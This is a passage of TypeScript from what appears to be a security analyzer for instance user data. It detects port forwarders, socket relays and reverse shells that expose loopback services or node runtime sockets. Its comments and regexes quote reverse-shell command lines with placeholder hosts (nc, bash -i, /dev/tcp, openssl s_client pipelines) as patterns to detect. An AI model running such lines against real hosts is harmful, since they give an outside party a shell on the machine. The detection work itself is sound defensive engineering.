 * - socat with a network listener (SOCAT_LISTENER; bind= its address, every address by default) and a connecting
 *   address (TCP:/TCP4:/TCP-CONNECT:/OPENSSL:HOST:PORT, UNIX-CONNECT:/UNIX-CLIENT:/UNIX:PATH) (socat(1) "ADDRESS TYPES");
 * - ssh -L/LocalForward to this instance (the destination is loopback: the target is resolved there) listening on its
 *   bind address (loopback unless -g or GatewayPorts yes; "" or * every address), and ssh -R/RemoteForward, whose
 *   target is resolved here and whose listener is on the destination, another host's (ssh(1) -L, -R);
 * - gost `-L tcp://[ADDR]:PORT/TARGET` without a -F chain (the target dialled here), and `rtcp://` (listening on the
 *   chain's far end, dialling here) (ginuerzh/gost README, "Port forwarding");
 * - `caddy reverse-proxy --to` (every interface), systemd-socket-proxyd TARGET (its socket unit's address, not joined
 *   here: every address), and iptables/nft DNAT rules (iptablesForwarder, nftForwarders);
 * - envoy's bootstrap, --config-yaml or -c (envoyBootstrapForwarders: static and file-based dynamic resources),
 *   pen and balance, busybox httpd's P: lines (busyboxHttpdConfig).
 * - 3proxy's tcppm port mappers (threeProxyServices).
 * A listener running a network client on each connection (ncat -e/-c, socat EXEC:/SYSTEM:, tcpsvd, inetd ...) is a
 * forwarder too, read where every listener is judged (servedForwarders). Relays that dial out (socat with two
 * connecting addresses, ncat -e in connect mode, chisel R:, cloudflared, ngrok, bore, frpc) are ssh -R's kind, read in
 * dialledOutForwarders.
 */
function commandForwarders(
    words: readonly string[],
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Forwarder[] {
    const line = words.join(" ");
    const busybox = posix.basename(words[0] ?? "") === "busybox";
    words = appletWords(words);
    const name = posix.basename(words[0] ?? "");
    const args = words.slice(1);
    const forwarder = (listens: readonly string[], to: LoopbackEnd | undefined): Forwarder[] =>
        to ? [{ forwarder: line, listens, to }] : [];
    const dialled = dialledOutForwarders(name, args, line, fileText, view);
    if (dialled) return dialled;
    if (busybox && name === "httpd" && busyboxHttpdListeners(args, undefined, name).length > 0)
        return busyboxHttpdConfig(args, undefined, fileText, view).proxies.flatMap(to =>
            forwarder(optionValues(getopt(args, "cpuhrmde", []).options, "-p"), to),
        );
    if (name === "socat") {
        const addresses = args.filter(w => !w.startsWith("-") || w === "-").slice(-2);
        const listener = addresses.find(a => SOCAT_LISTENER.test(a) && !/^unix/i.test(a));
        if (!listener) return [];
        const [head, ...options] = listener.split(",");
        const port = head.split(":")[1] ?? "";
        const bind = options.flatMap(o => (/^bind=/i.test(o) ? [o.slice(5)] : [])).at(-1);
        const listens = [`${bind ?? "0.0.0.0"}${bind !== undefined && /:\d+$/.test(bind) ? "" : `:${port}`}`];
        return addresses.flatMap(a => forwarder(listens, socatEnd(a)));
    }
    if (name === "ssh") {
        const { options, operands, setting, gateway } = sshCommand(args);
        const destination = sshDestination(operands);
        const self = loopbackOnly([destination]);
        const forwards = (flag: string, key: string) => [
            ...optionValues(options, flag),
            ...setting(key).map(v => v.replace(/\s+/, ":")),
        ];
        // [bind:]port:host:hostport, [bind:]port:socket, socket:host:hostport, socket:socket (IPv6 in brackets).
        const split = (spec: string) => {
            const parts = spec.match(/\[[^\]]*\]|[^:]+/g) ?? [];
            const socketTarget = parts.at(-1)?.startsWith("/") ?? false;
            const target = socketTarget ? parts.slice(-1) : parts.slice(-2);
            const listen = parts.slice(0, parts.length - target.length);
            return { listen, target: target.join(":").replace(/^\[|\](?=:|$)/g, "") };
        };
        return [
            ...forwards("-L", "LocalForward").flatMap(spec => {
                const { listen, target } = split(spec);
                const bind = listen.length > 1 ? listen[0] : gateway ? "*" : "localhost";
                return self
                    ? forwarder([`${bind === "" ? "*" : bind}:${listen.at(-1) ?? ""}`], loopbackEnd(target))
                    : [];
            }),
            // A reverse dynamic forward (`-R [bind:]port`) is a SOCKS proxy (sshListeners).
            ...forwards("-R", "RemoteForward")
                .filter(spec => !reverseSocks(spec))
                .flatMap(spec => {
                    const { listen, target } = split(spec);
                    const bind = listen.length > 1 ? listen[0] : "localhost";
                    const listens = self ? [`${bind}:${listen.at(-1) ?? ""}`] : [`${destination} (another host)`];
                    return forwarder(listens, loopbackEnd(target));
                }),
        ];
    }
    if (name === "gost") {
        const { options } = getopt(args, "LFCM", []);
        const chained = options.some(([k]) => k === "-F");
        return optionValues(options, "-L").flatMap(raw => {
            const m = /^(tcp|rtcp):\/\/([^/]*)\/(.+)$/i.exec(raw.replace(/^=/, ""));
            if (!m || (m[1].toLowerCase() === "tcp" && chained)) return [];
            return forwarder(
                m[1].toLowerCase() === "rtcp" ? ["the gost chain's far end (another host)"] : [m[2]],
                loopbackEnd(m[3]),
            );
        });
    }
    // chisel server --backend (chisel README, `chisel server --help`: "Specifies another HTTP server to proxy requests
    // to when chisel receives a normal HTTP request"): --auth guards tunnels only, the backend is served to every client.
    if (name === "chisel" && args[0] === "server") {
        const { options } = getopt(goFlags(args.slice(1)), "p", CHISEL_SERVER_VALUES);
        const host = optionValues(options, "--host").at(-1) ?? "0.0.0.0";
        const port = optionValues(options, "-p", "--port").at(-1) ?? "8080";
        return optionValues(options, "--backend").flatMap(b => forwarder([`${host}:${port}`], loopbackEnd(b)));
    }
    if (name === "caddy" && args[0] === "reverse-proxy")
        return [...longValues(args, /^(to|t)$/), ...optionValues(getopt(args, "tf").options, "-t")].flatMap(to =>
            forwarder([], loopbackEnd(to)),
        );
    if (name === "systemd-socket-proxyd") {
        const target = args.filter(w => !w.startsWith("-")).at(0);
        return target === undefined
            ? []
            : forwarder([], target.startsWith("/") ? { socket: target } : loopbackEnd(target));
    }
    // 3proxy's port mappers (tcppm(8): `tcppm [-iIP] LOCAL_PORT REMOTE_HOST REMOTE_PORT`); its proxies are threeProxyListeners'.
    if (name === "3proxy")
        return (threeProxyServices(args, fileText, view) ?? [])
            .filter(s => s.service === "tcppm")
            .flatMap(s =>
                forwarder(
                    (s.binds.length > 0 ? s.binds : ["0.0.0.0"]).map(b => `${b}:${s.operands[0] ?? ""}`),
                    relayEnd(s.operands[1] ?? "", s.operands[2]),
                ),
            );
    if (/^(iptables|ip6tables)(-legacy|-nft)?$/.test(name)) return iptablesForwarder(args);
    if (name === "nft") return nftForwarders(args.join(" "));
    if (name === "autossh")
        return commandForwarders(["ssh", ...autosshSshArgs(args)]).map(f => ({ ...f, forwarder: line }));
    if (name === "dbclient")
        return commandForwarders(["ssh", ...dropbearSshArgs(args)]).map(f => ({ ...f, forwarder: line }));
    if (/^firewall-(offline-)?cmd$/.test(name)) {
        // --direct rules are iptables' own (firewall-cmd(1) "Direct Options": `--add-rule { ipv4 | ipv6 | eb } table
        // chain priority args`, `--add-passthrough { ipv4 | ipv6 | eb } args`).
        const direct = args.findIndex(w => /^--add-(rule|passthrough)$/.test(w));
        const rule =
            direct < 0
                ? []
                : args[direct] === "--add-rule"
                  ? ["-t", args[direct + 2], "-A", args[direct + 3], ...args.slice(direct + 5)]
                  : args.slice(direct + 2);
        return [...firewalldForwarders(line), ...iptablesForwarder(rule).map(f => ({ ...f, forwarder: line }))];
    }
    // Envoy's bootstrap given inline (Envoy docs, "Command line options": "--config-yaml <yaml string>: The YAML string
    // for a bootstrap configuration"), read as a written one.
    // -c/--config-path (Envoy docs, "Command line options"); -l takes the log level. A bootstrap user data does not
    // write (fetched, the AMI's) or changes (readConfig) may hold any listener and cluster, as an LDS/CDS/EDS source
    // the pack cannot read (envoyBootstrapForwarders): a forwarder from every address to any loopback end.
    if (name === "envoy")
        return [
            ...longValues(args, /^config-yaml$/).map(yaml => ({ yaml, where: "envoy --config-yaml" })),
            ...optionValues(getopt(args, "cl", ["config-path", "config-yaml"]).options, "-c", "--config-path").map(
                path => ({ yaml: readConfig(path, fileText, view), where: path }),
            ),
        ].flatMap(({ yaml, where }) =>
            yaml == null
                ? [{ forwarder: `Envoy bootstrap ${where} the pack cannot read (${line})`, listens: [], to: {} }]
                : envoyBootstrapForwarders(yaml, where, fileText, view).map(f => ({
                      ...f,
                      forwarder: `${f.forwarder} (${line})`,
                  })),
        );
    // pen(1) "[host:]port h1[:p1[:maxc1...]] [h2[:p2...]] ...", every address without a host; balance(1) "balance
    // [-b addr] ... port [h1[:p1[:maxc1]] ...]" (-b its bind address). A server without a port is reached on the
    // listening port.
    // pen's -F cfgfile holds control commands (penctl(1): `server N address A port P`), unread: an end it cannot tell.
    if (name === "pen" || name === "balance") {
        const { options, operands } = getopt(args, BALANCER_VALUES[name], []);
        const [listen = "", ...servers] = operands.filter(o => o !== "!" && o !== "%");
        const own = /^(?:(.*):)?(\d+)$/.exec(listen);
        const bind = name === "balance" ? (optionValues(options, "-b").at(-1) ?? "0.0.0.0") : (own?.[1] ?? "0.0.0.0");
        const listens = [`${bind}:${own?.[2] ?? listen}`];
        return [
            ...servers.flatMap(server => {
                const [host = "", port = own?.[2]] = server.split(":");
                return forwarder(listens, relayEnd(host, port));
            }),
            ...(name === "pen" && optionValues(options, "-F").length > 0 ? forwarder(listens, {}) : []),
        ];
    }
    return [];
}

/**
 * The commands a shell command line runs, each from its program word: wrappers skipped (shell.ts WRAPPERS: `exec`,
 * which replaces the shell with the command, POSIX sh "exec [command [argument...]]"; timeout, nice, env, assignments),
 * and a launcher's command line (launchedCommand: su -c, runuser -c) or a shell's `-c` line read as lines of their own.
 */
function lineCommands(line: string, depth = 0): string[][] {
    if (depth > 4) return [];
    return simpleCommands(line).flatMap(({ words }) => {
        const rest = words.slice(programIndex(words));
        const launched = launchedCommand(rest);
        if (launched) return lineCommands(launched.line, depth + 1);
        const command = SHELLS.test(posix.basename(rest[0] ?? "")) ? rest.findIndex(w => /^-[a-z]*c$/.test(w)) : -1;
        return command > 0 ? lineCommands(rest[command + 1] ?? "", depth + 1) : [rest];
    });
}

/**
 * The forwarders of one Envoy bootstrap (`where` names it), one set of listeners joined to one set of clusters
 * (envoyForwarders): its static_resources (Envoy docs, "Configuration: Static") and its file-based dynamic resources
 * ("Configuration: Dynamic from filesystem": `dynamic_resources` lds_config / cds_config, a config source whose
 * `path_config_source` (or older `path`) names a file whose `resources:` are Listener / Cluster resources), static
 * listeners to CDS clusters and LDS listeners to static clusters alike. An EDS cluster (`type: EDS`,
 * eds_cluster_config.eds_config: config_source.proto) takes its endpoints from that source's ClusterLoadAssignment
 * resources (envoy.config.endpoint.v3.ClusterLoadAssignment) whose cluster_name is its service_name, else its name. A
 * source the pack cannot read (a file user data does not write, or changes in a way the pack cannot compute:
 * readConfig; `ads`, `api_config_source`, any other: a management server's) may hold any listener, cluster or
 * endpoint: a forwarder from every address to an end the pack cannot tell (`{}`: any loopback listener), failing closed.
 */
function envoyBootstrapForwarders(
    text: string,
    where: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] {
    const docs = structuredDocs(text);
    // A config source's resources, undefined when the pack cannot read them.
    const resources = (source: unknown): unknown[] | undefined => {
        const path = [obj(obj(source).path_config_source).path, obj(source).path].find(p => typeof p === "string");
        const file = typeof path === "string" ? readConfig(path, fileText, view) : undefined;
        return file == null ? undefined : structuredDocs(file).flatMap(doc => list(obj(doc).resources));
    };
    const dynamic = docs.map(doc => obj(obj(doc).dynamic_resources));
    const sourced = (key: string) => dynamic.filter(d => d[key] !== undefined).map(d => resources(d[key]));
    const [listenerFiles, clusterFiles] = [sourced("lds_config"), sourced("cds_config")];
    const statics = docs.map(doc => obj(obj(doc).static_resources));
    const edsEnds = (cluster: unknown): string[] | undefined => {
        const c = obj(cluster);
        if (c.type !== "EDS" && c.eds_cluster_config === undefined) return [];
        const config = obj(c.eds_cluster_config);
        const name = String(config.service_name ?? c.name ?? "");
        return resources(config.eds_config)
            ?.filter(a => String(obj(a).cluster_name ?? "") === name)
            .flatMap(envoyAssignmentEnds);
    };
    const unread = [...listenerFiles, ...clusterFiles].some(r => r === undefined);
    return [
        ...envoyForwarders(
            [...statics.flatMap(r => list(r.listeners)), ...listenerFiles.flatMap(r => r ?? [])],
            [...statics.flatMap(r => list(r.clusters)), ...clusterFiles.flatMap(r => r ?? [])],
            edsEnds,
        ),
        ...(unread
            ? [{ forwarder: `Envoy dynamic resources of ${where} the pack cannot read`, listens: [], to: {} }]
            : []),
    ];
}

/**
 * A bash redirection to `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` (bash(1) REDIRECTION: "If host is a valid
 * hostname or Internet address, and port is an integer port number or service name, bash attempts to open the
 * corresponding TCP socket"): the line is a client of HOST:PORT (AL2023's /bin/sh is bash).
 */
const DEV_TCP_REDIRECTION = /[<>]&?\s*\/dev\/(?:tcp|udp)\/([^/\s'"]+)\/([^\s;&|)'"<>]+)/g;

/**
 * socat's connecting address as the end it reaches on this instance (socat(1) "ADDRESS TYPES"): TCP:/TCP4:/TCP6:/
 * TCP-CONNECT:/OPENSSL:HOST:PORT, UNIX-CONNECT:/UNIX-CLIENT:/UNIX:/LOCAL:PATH, and GOPEN:PATH or a bare path ("If it is
 * a UNIX domain socket, socat connects to it"); undefined for another host or any other address.
 */
function socatEnd(address: string): LoopbackEnd | undefined {
    const connect = /^(?:tcp[46]?|tcp[46]?-connect|openssl|ssl|openssl-connect):([^,]*)/i.exec(address);
    if (connect) return loopbackEnd(connect[1]);
    const unix = /^(?:unix-connect|unix-client|unix|local|gopen):([^,]*)|^(\/[^,]*)/i.exec(address);
    return unix ? { socket: posix.normalize(unix[1] ?? unix[2]) } : undefined;
}

/**
 * The ends a command line run with a connection as its standard input and output relays it to (a listener's served
 * program: ncat -e/-c, Ncat Users' Guide "Connection brokering" and "Command execution"; socat EXEC:/SYSTEM:; a
 * super-server's: tcpsvd, tcpserver, inetd, xinetd, toybox netcat -L): a command that is a network client connects
 * the two, `nc HOST PORT` (not listening; `nc -U PATH` a unix socket), `socat - ADDRESS` (socatEnd) or `openssl
 * s_client -connect HOST:PORT`, found after the launchers and wrappers of the line (lineCommands: `-c "exec ncat HOST
 * PORT"`) with a multi-call binary's applet read as its program (appletWords: `busybox nc`), and a bash /dev/tcp
 * redirection anywhere in it (DEV_TCP_REDIRECTION). A script the command runs (its program, or a shell's script
 * operand: `-e /usr/local/bin/relay.sh`, `-c "sh /opt/relay.sh"`) that user data writes is read as its lines
 * (scriptCommands); one it writes then changes in a way the pack cannot compute relays to an end it cannot tell.
 */
function servedRelays(
    line: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): LoopbackEnd[] {
    const scripts = scriptCommands([line], fileText, view);
    const commands = [line, ...scripts.lines];
    return [
        ...(scripts.unread ? [{}] : []),
        // Read after quote removal (bash(1) EXPANSION "Quote Removal" precedes the redirection's open:
        // `3<>"/dev/tcp/127.0.0.1/8000"` and `3<>/dev/tcp/"127.0.0.1"/8000` open the same socket).
        ...commands.flatMap(command =>
            [...command.replace(/["'\\]/g, "").matchAll(DEV_TCP_REDIRECTION)].map(m => relayEnd(m[1], m[2])),
        ),
        ...commands
            // --exec's command runs without a shell, but its wrappers (timeout, nice) still run the client: read alike.
            .flatMap(command => lineCommands(command))
            .map(appletWords)
            .flatMap(words => {
                const client = posix.basename(words[0] ?? "");
                const rest = words.slice(1);
                if (/^(ncat|nc|netcat)$/.test(client)) {
                    const them = ncatCommand(rest);
                    const port = rest.filter(w => /^\d+$/.test(w)).at(-1);
                    if (them.listen || them.hosts[0] === undefined) return [];
                    // -U/--unixsock (Ncat guide, "Unix domain sockets"; OpenBSD nc -U): the operand is a socket's path.
                    return them.values.some(([k]) => k === "-U" || k === "--unixsock")
                        ? [{ socket: posix.normalize(them.hosts[0]) }]
                        : [relayEnd(them.hosts[0], port)];
                }
                if (client === "socat") return rest.map(socatEnd);
                if (client === "httpd" && getopt(rest, "cpuhrmde", []).options.some(([k]) => k === "-i"))
                    return busyboxHttpdConfig(rest, undefined, fileText, view).proxies;
                if (client === "openssl" && rest[0] === "s_client")
                    return longValues(
                        rest.map(w => w.replace(/^-(?=connect)/, "--")),
                        /^connect$/,
                    ).map(c => loopbackEnd(c));
                return [];
            }),
    ].filter((to): to is LoopbackEnd => to !== undefined);
}

/**
 * A listener's served program as a forwarder (servedRelays): from where it listens (its port, when its reader knows it)
 * to each end the program connects, joined per user data as every forwarder is (loopbackJoin: a loopback server served
 * beyond loopback, a relay of the runtime's socket). One admitting loopback clients only listens as loopback does.
 */
function servedForwarders(
    listener: Listener,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Forwarder[] {
    const { server, binds, allowed = [], port, serves } = listener;
    if (!("shell" in serves)) return [];
    const at = loopbackOnly(binds) || !loopbackOnly(allowed) ? binds : ["127.0.0.1"];
    const listens =
        port === undefined || port === ""
            ? at
            : (at.length > 0 ? at : ["0.0.0.0"]).map(
                  b => `${b.includes(":") ? `[${b.replace(/^\[|\]$/g, "")}]` : b}:${port}`,
              );
    return servedRelays(serves.shell, fileText, view).map(to => ({ forwarder: server, listens, to }));
}

/**
 * The lines of the scripts command lines run (Ncat guide, "Command execution": --exec runs the program user data may
 * have written), followed to a depth of 3: a line's program given by path, or the script operand of a shell
 * (shell.ts SHELLS) without -c. `unread`: one user data writes then changes in a way the pack cannot compute (readConfig
 * null). A program user data does not write is the AMI's, read by its name.
 */
function scriptCommands(
    commands: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    depth = 0,
): { lines: string[]; unread: boolean } {
    const out = { lines: [] as string[], unread: false };
    if (depth > 2 || fileText === undefined) return out;
    for (const words of commands.flatMap(command => lineCommands(command))) {
        const program = words[0] ?? "";
        const shell = SHELLS.test(posix.basename(program)) && !words.some(w => /^-[a-z]*c$/.test(w));
        const script = shell ? words.slice(1).find(w => !w.startsWith("-")) : program;
        if (script === undefined || !script.startsWith("/")) continue;
        const text = readConfig(posix.normalize(script), fileText, view);
        if (text === null) out.unread = true;
        if (text == null) continue;
        const lines = text.split(/\r?\n/).filter(l => l.trim() !== "" && !/^\s*#/.test(l));
        const inner = scriptCommands(lines, fileText, view, depth + 1);
        out.lines.push(...lines, ...inner.lines);
        out.unread ||= inner.unread;
    }
    return out;
}

/**
 * The ends a network client command reaches (a pipeline's stage): a bash /dev/tcp|/dev/udp redirection of it
 * (DEV_TCP_REDIRECTION), `nc HOST PORT` (not listening; -U a socket), socat's addresses, `openssl s_client -connect`,
 * and for any other program not NOT_UNREAD_SERVERS the endpoints its words name (namedLocalEnd, namedOtherHost). `far`
 * another host's, `to` an end on this instance.
 */
function clientEnds(c: { words: readonly string[]; writes: readonly string[]; reads: readonly string[] }): {
    far: string[];
    to: LoopbackEnd[];
} {
    const out = { far: [] as string[], to: [] as LoopbackEnd[] };
    const add = (host: string, port: string | undefined) => {
        const end = relayEnd(host, port);
        if (end) out.to.push(end);
        else out.far.push(`${host}:${port ?? ""}`);
    };
    for (const path of [...c.writes, ...c.reads]) {
        const m = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\/(\S+)$/.exec(path);
        if (m) add(m[1], m[2]);
    }
    const words = appletWords(c.words.slice(programIndex(c.words)));
    const name = posix.basename(words[0] ?? "");
    const rest = words.slice(1);
    if (/^(ncat|nc|netcat)$/.test(name)) {
        const them = ncatCommand(rest);
        if (!them.listen && them.hosts[0] !== undefined) {
            if (them.values.some(([k]) => k === "-U" || k === "--unixsock"))
                out.to.push({ socket: posix.normalize(them.hosts[0]) });
            else add(them.hosts[0], rest.filter(w => /^\d+$/.test(w)).at(-1));
        }
    } else if (name === "socat")
        for (const a of rest.filter(w => !w.startsWith("-")).slice(-2)) {
            const far = socatFar(a);
            const end = socatEnd(a);
            if (end) out.to.push(end);
            else if (far !== undefined) out.far.push(far);
        }
    else if (name === "openssl" && rest[0] === "s_client")
        for (const c of longValues(
            rest.map(w => w.replace(/^-(?=connect)/, "--")),
            /^connect$/,
        )) {
            const end = loopbackEnd(c);
            if (end) out.to.push(end);
            else out.far.push(c);
        }
    else if (
        name !== "" &&
        !NOT_UNREAD_SERVERS.test(name) &&
        !READ_RELAYS.test(name) &&
        !SERVERS.some(s => s.names.test(name))
    )
        rest.forEach(w => {
            const end = namedLocalEnd(w);
            const far = namedOtherHost(w);
            if (end) out.to.push(end);
            else if (far !== undefined) out.far.push(far);
        });
    return out;
}

/**
 * What one shell line's commands relay together (round 57):
 * - a pipeline, or commands joined by a file (a FIFO: mkfifo(1)) one writes and another reads, of a client of another
 *   host and a client of an end on this instance (clientEnds: the classic `nc HOST PORT < /tmp/f | nc 127.0.0.1 PORT
 *   > /tmp/f`) relays that end to whoever holds the other host's, as ssh -R does (dialledOut);
 * - a shell or interpreter reading what a connection sends (runsClientCommands: `bash -i`) whose input or output is a
 *   /dev/tcp or /dev/udp connection to another host (bash(1) REDIRECTION: "bash attempts to open the corresponding TCP
 *   socket") hands a shell to whoever holds that host's end (shellHandedOut);
 * a descriptor `exec N<>/dev/tcp/HOST/PORT` opens counting as that connection for each later command reading or writing
 * it (`<&N`, `>&N`).
 */
function lineRelays(line: string, how: string): NodeOpening[] {
    // `exec N<>FILE` (or `N<FILE`) without a command opens FILE on descriptor N for every later command of the line
    // (bash(1) "exec": "If command is not specified, any redirections take effect in the current shell"); a later
    // `<&N` or `>&N` reads or writes it (bash(1) REDIRECTION, "Duplicating File Descriptors").
    // zsh's `ztcp HOST PORT` (zshmodules(1), "The zsh/net/tcp Module": "ztcp [ -v ] [ -d fd ] host [ port ]" opens a
    // TCP connection "and the file descriptor ... is stored in the parameter $REPLY"; -l/-a listen and accept, -c
    // closes) opens that connection as `exec N<>/dev/tcp/HOST/PORT` does: a later `>&$REPLY` (or `-d`'s descriptor)
    // reads or writes it.
    const opened = new Map<string, string>();
    const descriptor = (p: string) => (/^\$\{?REPLY\}?$/.test(p) ? (opened.get("$REPLY") ?? p) : p);
    const commands = simpleCommands(line)
        .filter(c => c.words.length > 0)
        .map(c => {
            const dup = (fds: readonly string[] | undefined) => (fds ?? []).flatMap(fd => opened.get(fd) ?? []);
            const command = {
                ...c,
                reads: [...c.reads.map(descriptor), ...dup(c.dupIn)],
                writes: [...c.writes.map(descriptor), ...dup(c.dupOut)],
            };
            if (c.words.length === 1 && c.words[0] === "exec")
                for (const { fd, path } of c.fdReads ?? []) opened.set(fd, path);
            const ztcp = c.words.slice(programIndex(c.words));
            if (posix.basename(ztcp[0] ?? "") === "ztcp" && !ztcp.some(w => /^-[a-zA-Z]*[lac]/.test(w))) {
                const fd = ztcp.find((w, k) => ztcp[k - 1] === "-d");
                const [host, port] = ztcp.slice(1).filter((w, k, all) => !w.startsWith("-") && all[k - 1] !== "-d");
                if (host !== undefined) {
                    opened.set("$REPLY", `/dev/tcp/${host}/${port ?? ""}`);
                    if (fd !== undefined) opened.set(fd, `/dev/tcp/${host}/${port ?? ""}`);
                }
            }
            return command;
        });
    const ends = commands.map(clientEnds);
    // Groups: a pipeline's stages, and commands sharing a file one writes and another reads.
    const group = commands.map((_, i) => i);
    const find = (i: number): number => (group[i] === i ? i : (group[i] = find(group[i])));
    commands.forEach((c, i) => {
        if (c.pipesOut && i + 1 < commands.length) group[find(i + 1)] = find(i);
        commands.forEach((d, j) => {
            if (i !== j && c.writes.some(w => !w.startsWith("/dev/") && d.reads.includes(w))) group[find(j)] = find(i);
        });
    });
    const out: NodeOpening[] = [];
    const forwarders: Forwarder[] = [];
    commands.forEach((c, i) => {
        const members = commands.map((_, j) => j).filter(j => find(j) === find(i));
        if (members[0] !== i) return;
        const far = members.flatMap(j => ends[j].far);
        if (far.length === 0) return;
        // One command alone relays only through a /dev/tcp redirection of its own (its words are its reader's).
        const redirected = [...c.writes, ...c.reads].some(p => /^\/dev\/(tcp|udp)\//.test(p));
        if (members.length > 1 || redirected)
            for (const to of members.flatMap(j => ends[j].to))
                forwarders.push({
                    forwarder: `${members.map(j => commands[j].words.join(" ")).join(" | ")} (a relay of two clients)`,
                    listens: dialledOut(far[0]),
                    to,
                });
    });
    commands.forEach((c, i) => {
        const devFar = [...c.writes, ...c.reads].filter(p => /^\/dev\/(tcp|udp)\//.test(p));
        if (!runsClientCommands(c.words.join(" "))) return;
        if (ends[i].far.length > 0 && devFar.length > 0)
            out.push(shellHandedOut(how, `${c.words.join(" ")} connected to ${ends[i].far.join(", ")} (another host)`));
        // A shell whose input comes through the pipeline or a file (a FIFO) from commands joined with a client of
        // another host (`bash -i < /tmp/s | openssl s_client -connect HOST:PORT > /tmp/s`, `cat /tmp/f | bash -i |
        // nc HOST PORT > /tmp/f`) runs what that host sends: a reverse shell, whatever the client program.
        else {
            const members = commands.map((_, j) => j).filter(j => j !== i && find(j) === find(i));
            const far = members.flatMap(j => ends[j].far);
            const fed =
                (i > 0 && commands[i - 1].pipesOut && members.includes(i - 1)) ||
                members.some(j => commands[j].writes.some(w => !w.startsWith("/dev/") && c.reads.includes(w)));
            if (far.length > 0 && fed)
                out.push(
                    shellHandedOut(
                        how,
                        `${c.words.join(" ")} reads what ${far.join(", ")} (another host) sends, through ${members.map(j => commands[j].words.join(" ")).join(" | ")}`,
                    ),
                );
        }
    });
    return [...out, ...forwarderMarks(forwarders, how)];
}

/** The port an ncat/nc listener listens on (`ncat -l [host] [port]`, -p its port). */
function ncatPort(args: readonly string[]): string | undefined {
    return optionValues(ncatCommand(args).values, "-p").at(-1) ?? args.filter(w => /^\d+$/.test(w)).at(-1);
}

/**
 * The ssh command line autossh runs (autossh(1): "autossh [-V] [-M port[:echo_port]] [-f] [SSH_OPTIONS]": -M, -f and -V
 * are its own, every other argument is passed on to ssh).
 */
function autosshSshArgs(args: readonly string[]): string[] {
    return args.filter((w, i) => !/^(-f|-V|-M.*)$/.test(w) && !(args[i - 1] === "-M"));
}

/**
 * A relay of a root-power socket (podSpec.ts rootPowerSocket: the runtime's and the kubelet's, NODE_SECRETS; the D-Bus
 * system bus and systemd's, ROOT_SOCKETS) to the network: their API unauthenticated for whoever connects, root for any
 * pod reaching it, as containerd's tcp_address is; the bus and systemd take the root relay's credentials for the
 * client's. One rule for every relay reader: a relaying command's words (socat, ncat, systemd-socket-proxyd) and any
 * forwarder reaching such a socket from beyond loopback (loopbackJoin: an Envoy `pipe` endpoint, an nginx or HAProxy
 * unix upstream, a chain through a loopback relay).
 */
const runtimeSocketRelay = (how: string): NodeOpening => ({
    who: "every pod that reaches the node",
    what: `user data relays a socket of the node's runtime, kubelet, D-Bus system bus or systemd, root on the node, to the network (${how}): whoever connects drives it as root (starts privileged containers or units, reads every pod's token); keep those sockets local`,
});

/**
 * What a listener or forwarder on loopback becomes once joined per user data (loopbackJoin): a mark held back in the
 * openings it is found with, never returned.
 */
type LoopbackMark = NodeOpening & {
    loopback:
        | { listener: Listener; how: string }
        | { forwarder: Forwarder; how: string }
        | { link: NodeLink }
        | { relay: { paths: readonly string[]; how: string } };
};
/**
 * A link user data makes (linkMarks), for relays of root-power sockets by a link's path (linkedPaths): undefined where
 * the pack cannot tell the link's path or its target.
 */
interface NodeLink {
    at: string | undefined;
    target: string | undefined;
    how: string;
}
const heldForJoin = (loopback: LoopbackMark["loopback"]): LoopbackMark => ({ who: "", what: "", loopback });
const forwarderMarks = (forwarders: readonly Forwarder[], how: string): NodeOpening[] =>
    forwarders.map(forwarder => heldForJoin({ forwarder, how }));
const isMark = (o: NodeOpening): o is LoopbackMark => "loopback" in o;

/**
 * The openings of one user data with its loopback listeners joined to its forwarders. A listener bound to loopback
 * (or admitting loopback clients only) serves only the instance's own processes unless something on the instance
 * forwards a listener beyond loopback to it: a reverse proxy (nginx proxy_pass, httpd ProxyPass, HAProxy, Caddy
 * reverse_proxy), a relay (socat, ssh -L/-R, gost, systemd-socket-proxyd) or a DNAT rule whose upstream is its port
 * or socket serves it to whoever reaches the forwarder (code-server docs, guide.md "Expose code-server": a reverse
 * proxy in front of code-server bound to 127.0.0.1 is how it is exposed, with its password; Jupyter Server docs,
 * "Security in the Jupyter Server": access to the server is running arbitrary code). Such a listener is judged as
 * listening where the forwarder listens (listenerOpenings): its own authentication still counts (a Jupyter with a
 * password or token, code-server with password auth, yields no listener), its client list does not (every forwarded
 * connection comes from the forwarder's own loopback address). A forwarder whose end the pack cannot tell (a variable,
 * a port it cannot read) reaches every loopback listener; a listener without a port it can read (Jupyter's `--port`
 * is a first choice among port_retries others) is reached by every forwarder to a loopback port. Forwarders on
 * loopback chain: one reached by another counts as listening where that one does. An exposed forwarder to the
 * runtime's or the kubelet's socket is a relay of it (runtimeSocketRelay).
 */
function loopbackJoin(openings: readonly NodeOpening[]): NodeOpening[] {
    const marks = openings.filter(isMark).map(m => m.loopback);
    const listeners = marks.flatMap(m => ("listener" in m ? [m] : []));
    const forwarders = marks.flatMap(m => ("forwarder" in m ? [{ ...m.forwarder, how: m.how }] : []));
    const exposed = forwarders.filter(f => !loopbackOnly(f.listens));
    // Each forwarder on loopback is exposed once, by the first exposed one reaching it (a chain ends).
    const chained = new Set<(typeof forwarders)[number]>();
    for (let i = 0; i < exposed.length; i++)
        for (const inner of forwarders)
            if (
                loopbackOnly(inner.listens) &&
                !chained.has(inner) &&
                reaches(exposed[i].to, inner.listens) &&
                chained.add(inner)
            )
                exposed.push({
                    ...inner,
                    forwarder: `${inner.forwarder}, behind ${exposed[i].forwarder}`,
                    listens: exposed[i].listens,
                });
    // A joined listener's own relays (servedForwarders) are marks already chained above: only its openings count.
    const joined = exposed.flatMap(f =>
        listeners
            .filter(l => reaches(f.to, l.listener.binds.length > 0 ? l.listener.binds : ["0.0.0.0"]))
            .flatMap(l =>
                listenerOpenings(
                    [{ ...l.listener, binds: f.listens, allowed: [] }],
                    `${l.how}, bound to ${l.listener.binds.join(", ") || "its default"} and served beyond loopback by ${f.forwarder} (${f.how})`,
                ).filter(o => !isMark(o)),
            ),
    );
    // A root-power socket by a path user data links to it (linkedPaths; the AMI's /var/run too), or by a link the pack
    // cannot follow, is that socket: connect(2) follows the links.
